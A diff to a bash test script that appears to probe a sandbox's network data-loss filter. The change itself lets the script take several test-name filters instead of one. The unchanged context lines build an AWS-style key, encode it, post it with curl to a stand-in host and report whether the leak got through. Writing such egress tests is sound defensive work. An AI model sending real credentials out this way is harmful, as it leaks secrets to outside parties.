@@ -9,12 +9,18 @@ export PYTHONNOUSERSITE=1
 ok=https://api.example.com/ok
 twin_get='curl -sS -m 5 $ok/m-twin | grep -q reached'
 twin_post='curl -sS -m 5 -d hello=1 $ok/m-twin | grep -q reached'
-filter=${1:-}
+filters=("$@")
+chosen() {
+	local f
+	((${#filters[@]} == 0)) && return 0
+	for f in "${filters[@]}"; do [[ $1 == "$f"* ]] && return 0; done
+	return 1
+}
 
 # try ID FEATURE WHAT ATTACK [TWIN]: in the attack $m is the mark. Ten at a time: most of them wait.
 running=0
 try() {
-	[[ network/$1 == "$filter"* ]] || return 0
+	chosen "network/$1" || return 0
 	((++running > 10)) && wait -n
 	try_now "$@" &
 }
@@ -126,7 +132,7 @@ key=AKIA
 key+=QYLPMN5HHHFPZAM2 # in two parts, so that this file holds none
 secret_case() { # ID WHAT TRANSFORM: what arrives must not hold the transformed key
 	local id=network/dlp_$1 text works=BROKEN
-	[[ $id == "$filter"* ]] || return 0
+	chosen "$id" || return 0
 	text=$(printf 'aws_access_key_id = %s' "$key" | eval "$3" | base64 -w 0)
 	base64 -d <<<"$text" | curl -sS -m 5 --data-binary @- -H 'Content-Type: text/plain' "${@:4}" $ok/m-"$1"-x >/dev/null 2>&1
 	eval "$twin_post" >/dev/null 2>&1 && works=WORKS
@@ -143,7 +149,7 @@ secret_case base64_twice 'the same, base64 twice' 'base64 -w 0 | base64 -w 0'
 # Here it is the request itself that must not arrive: its path holds the mark.
 whole_case() { # ID WHAT COMMAND: with $key and $to
 	local id=network/dlp_$1 m=m-$1-x works=BROKEN to
-	[[ $id == "$filter"* ]] || return 0
+	chosen "$id" || return 0
 	to=$ok/$m
 	eval "$3" >/dev/null 2>&1
 	eval "$twin_post" >/dev/null 2>&1 && works=WORKS
